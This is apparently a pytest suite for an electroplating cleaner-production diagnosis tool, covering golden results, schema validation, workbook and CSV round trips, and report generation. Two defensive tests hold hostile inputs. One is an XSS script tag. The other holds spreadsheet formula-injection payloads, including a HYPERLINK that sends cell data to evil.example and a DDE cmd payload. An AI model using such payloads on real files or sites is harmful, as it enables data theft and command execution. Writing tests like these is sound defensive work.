"""The example's golden diagnosis, a clean sector, the template round trip, the reports and the result schema."""

from __future__ import annotations

import copy
import io
import json
from pathlib import Path

import docx
import jsonschema
import pytest
from openpyxl import load_workbook

from cpkb.diagnostics.engine import diagnose
from cpkb.diagnostics.report import to_docx, to_html, to_xlsx
from cpkb.diagnostics.survey import read_survey
from cpkb.diagnostics.template import sector_template
from cpkb.diagnostics.workbook import read_csv, read_workbook, write_survey_csv, write_survey_workbook

from diagnose_support import EXAMPLES, canonical, example_raw, knowledge, read, real_store

EP = "https://w3id.org/cpkb/id/electroplating/"
SCHEMA = json.loads((Path(__file__).resolve().parent.parent / "diagnostics" / "result.schema.json").read_text())


@pytest.fixture(scope="module")
def result():
    return diagnose(read(example_raw()), real_store())


def stable(result: dict) -> dict:
    """A result without the time it was made, places shown as field paths (a workbook adds its cells)."""
    def bare(rows: list[dict]) -> list[dict]:
        return [{**r, "places": [p.split(" (")[0] for p in r["places"]]} for r in rows]

    found = {k: v for k, v in result.items() if k != "generated_at"}
    for key in ("units_understood", "unresolved"):
        found[key] = bare(found.get(key, []))
    return found


def test_golden_key_issues(result):
    key = {i["problem"]: i for i in result["key_issues"]}
    for problem in ("high-rinse-water", "single-tank-rinse", "low-metal-utilisation", "hexavalent-chromium-use",
                    "no-drag-out-recovery"):
        assert EP + "problem/" + problem in key, problem
    metal = key[EP + "problem/low-metal-utilisation"]
    assert any(ev["rule"] == EP + "rule/nickel-utilisation-worse-than-iii" for ev in metal["evidence"])
    assert all(i["prevalence"]["enterprises"] >= 0.3 or i["prevalence"]["output"] >= 0.3 or i["veto"]
               for i in key.values())
    # the one shop still on cyanide zinc (淘汰类) makes a key issue of it whatever the prevalence: a veto item
    cyanide = key[EP + "problem/cyanide-plating"]
    assert cyanide["veto"] and cyanide["enterprises"] == ["E11"]
    assert all(i["prevalence"]["enterprises"] < 0.3 and (i["prevalence"]["output"] or 0) < 0.3
               for i in result["other_findings"])
    rinse = key[EP + "problem/high-rinse-water"]  # above level III only; level II/III plants are another problem
    assert rinse["count"] == len(rinse["enterprises"]) == 12
    ev = next(e for e in rinse["evidence"] if e["enterprise"] == "E01")
    assert ev["facts"][0]["value"] == 47.0 and "47" in ev["explanation"]["zh"]


def test_golden_recommendations(result):
    recs = {r["measure"]: r for r in result["recommendations"]}
    for measure in ("adopt-countercurrent-rinse", "add-drag-out-tank", "switch-to-trivalent-passivation"):
        assert EP + "measure/" + measure in recs, measure
    trivalent = recs[EP + "measure/switch-to-trivalent-passivation"]
    hexavalent = {i["problem"]: set(i["enterprises"]) for i in result["key_issues"]}[EP + "problem/hexavalent-chromium-use"]
    assert set(trivalent["applies_to"]) <= hexavalent
    assert set(result["schemes"]["low_cost"]) | set(result["schemes"]["high_cost"]) == set(recs)
    assert EP + "measure/adopt-countercurrent-rinse" in result["schemes"]["high_cost"]
    assert EP + "measure/add-drag-out-tank" in result["schemes"]["low_cost"]
    assert sorted(r["rank"] for r in recs.values()) == list(range(1, len(recs) + 1))
    rejected = {r["measure"]: r for r in result["not_recommended"]}
    assert rejected[EP + "measure/automate-lines"]["reason"] == "prerequisite-missing"


def test_golden_scores(result):
    scores = {e["enterprise"]: e for e in result["indicator_assessment"]["enterprises"]}
    assert len(scores) == 18
    e01 = scores["E01"]
    assert e01["class"] == "below III"                       # rinse water 47 L/m² > 40, limiting
    assert e01["Y"] == {"I": 0.0, "II": 68.85, "III": 68.85}
    assert sum(result["indicator_assessment"]["systems"][0]["distribution"].values()) == 18


def test_a_clean_sector_has_no_key_issues():
    clean = {"output": {"product": "镀件", "value": 20, "unit": "万m2"},
             "processes": [{"process": "水洗", "techniques": ["多级逆流漂洗"]}, {"process": "回收", "techniques": ["回收槽"]},
                           {"process": "电镀", "techniques": ["高频开关电源", "碱性锌酸盐镀锌"]},
                           {"process": "后处理", "techniques": ["三价铬钝化"]},
                           {"process": "废水分质收集处理", "techniques": ["废水分质分流处理"]}],
             "indicators": [{"indicator": "单位产品每次清洗取水量", "value": 6, "unit": "L/m2"},
                            {"indicator": "锌利用率", "value": 85, "unit": "%"},
                            {"indicator": "镍利用率", "value": 96, "unit": "%"}],
             "facts": {"has_cp_manager": True, "has_water_meters_per_line": True, "heated_tanks_insulated": True,
                       "wastewater_segregated": True, "strip_rate": 0.5}}
    raw = {"cpkb_survey": 1, "scope": {"sector": "electroplating"},
           "enterprises": [{"id": f"C{n}", **copy.deepcopy(clean)} for n in range(6)]}
    result = diagnose(read(raw), real_store())
    assert result["key_issues"] == [] and result["other_findings"] == []
    assert result["recommendations"] == [] and result["schemes"] == {"low_cost": [], "high_cost": []}
    jsonschema.validate(result, SCHEMA)


def test_result_matches_its_schema(result):
    jsonschema.validate(result, SCHEMA)
    broken = copy.deepcopy(result)
    broken["key_issues"][0]["prevalence"]["enterprises"] = 1.5
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, SCHEMA)


def test_exclude_invalid_result_matches_the_schema():
    result = diagnose(read(example_raw("broken_survey.json")), real_store(), exclude_invalid=True)
    jsonschema.validate(result, SCHEMA)


# ---------------------------------------------------------------------- round trips

def test_template_round_trip_keeps_the_survey_and_its_diagnosis(result):
    raw = example_raw()
    data = write_survey_workbook(raw, real_store())
    back, cells = read_workbook(data)
    assert canonical(back) == canonical(raw)
    assert cells["enterprises[0].indicators[0].value"] == "指标 indicators!C2"
    again = diagnose(read(back, cells), real_store())
    assert stable(again) == stable(result)


def test_the_shipped_example_workbook_and_csv_are_the_json_example(result):
    raw = example_raw()
    for name, reader in (("electroplating_cluster.xlsx", read_workbook), ("electroplating_cluster.csv", read_csv)):
        back, _ = reader((EXAMPLES / name).read_bytes())
        assert canonical(back) == canonical(raw), f"{name} is stale: run python examples/make_workbook.py"


def test_csv_round_trip(result):
    raw = example_raw()
    back, cells = read_csv(write_survey_csv(raw).encode("utf-8"))
    assert canonical(back) == canonical(raw)
    assert stable(diagnose(read(back, cells), real_store())) == stable(result)


def test_round_trip_of_properties_streams_and_several_outputs():
    raw = {"cpkb_survey": 1, "scope": {"sector": "电镀", "pilot_type": "park", "park": "P", "facts": {"annual_operating_hours": 8000}},
           "enterprises": [{"id": 7, "output": [{"product": "镀件", "value": 1, "unit": "万m2"},
                                                {"product": "镀件", "value": 2.5, "unit": "m2"}],
                            "materials": [{"material": "硫酸镍", "value": 3, "unit": "t/a", "process": "电镀",
                                           "properties": [{"property": "x", "value": 1, "unit": "%"},
                                                          {"property": "y", "value": 2}]}],
                            "streams": [{"direction": "out", "resource": "中温余热", "value": 10, "unit": "GJ/a",
                                         "temperature_c": 180, "fate": "排空",
                                         "properties": [{"property": "压力", "value": 0.6, "unit": "MPa"}]}],
                            "emissions": [{"pollutant": "NOx", "value": 120, "unit": "mg/m3", "o2_ref_pct": 6,
                                           "stage": "generated"}],
                            "facts": {"has_cp_manager": "是"}}]}
    back, cells = read_workbook(write_survey_workbook(raw, real_store()))
    expected = copy.deepcopy(raw)
    expected["enterprises"][0]["id"] = 7
    assert canonical(back) == canonical(expected)
    assert cells["enterprises[0].output[1].value"] == "产量 output!C3"
    assert cells["enterprises[0].materials[0].properties[1].value"] == "材料属性 material properties!E3"
    back_csv, _ = read_csv(write_survey_csv(raw).encode("utf-8"))
    expected["enterprises"][0]["id"] = "7"
    assert canonical(back_csv) == canonical(expected)


def test_sector_template_has_sheets_headers_and_drop_downs():
    book = load_workbook(io.BytesIO(sector_template(real_store(), "电镀")))
    assert book.sheetnames[0] == "说明 instructions"
    assert book["lists"].sheet_state == "hidden"
    instructions = "\n".join(str(c.value) for row in book["说明 instructions"].iter_rows() for c in row if c.value)
    assert knowledge().version in instructions and "单位产品每次清洗取水量" in instructions and "L/m²" in instructions
    ws = book["工序与工艺 processes"]
    assert [c.value for c in ws[1]] == ["企业编号 enterprise", "工序 process", "工艺装备 techniques",
                                        "清单完整 complete"]
    lists = {c.value: i for i, c in enumerate(book["lists"][1])}
    processes = [r[lists["process"]] for r in book["lists"].iter_rows(min_row=2, values_only=True) if r[lists["process"]]]
    assert processes[0] == "前处理" and "水洗" in processes and len(processes) == 14
    formulas = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert formulas["B2"].startswith("=lists!$") and "C2" in formulas and "D2" in formulas  # 是/否 for complete
    indicator_dv = book["指标 indicators"].data_validations.dataValidation
    assert {str(dv.sqref) for dv in indicator_dv} >= {"B2:B5000", "D2:D5000", "E2:E5000"}


# ---------------------------------------------------------------------- reports

def test_html_report(result):
    html = to_html(result, real_store())
    for issue in result["key_issues"]:
        assert issue["labels"]["zh"] in html
    assert result["kb_version"] in html and "<svg" in html and "三价铬钝化" in html
    hostile = copy.deepcopy(result)
    hostile["scope"]["title"] = "<script>alert(1)</script>"
    assert "<script>alert" not in to_html(hostile)


def test_xlsx_report(result):
    book = load_workbook(io.BytesIO(to_xlsx(result)))
    assert book.sheetnames[0] == "0 概况"
    summary = [r[1] for r in book["0 概况"].iter_rows(values_only=True) if r[0] == "知识库版本"]
    assert summary == [result["kb_version"]]
    issues_sheet = next(ws for ws in book.worksheets if ws.title.endswith("关键问题"))
    header = [c.value for c in issues_sheet[2]]
    rows = list(issues_sheet.iter_rows(min_row=3, values_only=True))
    assert [r[header.index("问题")] for r in rows] == [i["labels"]["zh"] for i in result["key_issues"]]
    scores = next(ws for ws in book.worksheets if ws.title.endswith("企业评价"))
    assert scores.max_row == 2 + len(result["indicator_assessment"]["enterprises"])
    for section in ("情景", "经济效益", "工艺状态", "减排目标", "评级依据"):    # model v2 sections, one sheet each
        assert any(section in name for name in book.sheetnames), section


def test_cli_writes_every_format(tmp_path):
    from click.testing import CliRunner

    from cpkb.cli import main
    from diagnose_support import real_store as _store

    _store()
    import glob
    import tempfile
    folder = sorted(glob.glob(f"{tempfile.gettempdir()}/cpkb-diag-store-*"))[-1]
    runner = CliRunner()
    for fmt in ("json", "html", "xlsx", "docx"):
        out = tmp_path / f"r.{fmt}"
        run = runner.invoke(main, ["diagnose", str(EXAMPLES / "electroplating_cluster.xlsx"), "--format", fmt,
                                   "-o", str(out), "--store", folder, "--store-mode", "memory"])
        assert run.exit_code == 0, run.output
        assert out.stat().st_size > 1000
    run = runner.invoke(main, ["template", "--sector", "electroplating", "-o", str(tmp_path / "t.xlsx"),
                               "--store", folder])
    assert run.exit_code == 0 and load_workbook(tmp_path / "t.xlsx").sheetnames[0] == "说明 instructions"


def test_grades_resting_on_part_of_the_system_are_provisional(result):
    # the knowledge base holds 0.61 of the 2015 system's first-level weight: no grade can rest on more
    for e in result["indicator_assessment"]["enterprises"]:
        assert 0 < e["coverage"] <= 0.61 + 1e-9 and e["provisional"] is True
    assert "暂定" in to_html(result)


def test_survey_text_that_looks_like_a_formula_is_text_in_xlsx_reports():
    """An enterprise id `=HYPERLINK(...)` once became a live formula in the XLSX report (issue 15)."""
    import io

    from openpyxl import load_workbook

    from cpkb.diagnostics.engine import diagnose
    from cpkb.diagnostics.report import to_xlsx
    from cpkb.settings import load_settings

    raw = example_raw()
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
    for enterprise, text in zip(raw["enterprises"], hostile):
        enterprise["id"] = text
        enterprise["name"] = text
    raw["scope"]["title"] = "=1+1"
    result = diagnose(read(raw), real_store(), load_settings())
    book = load_workbook(io.BytesIO(to_xlsx(result)))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert hostile[0] in texts and "=1+1" in texts
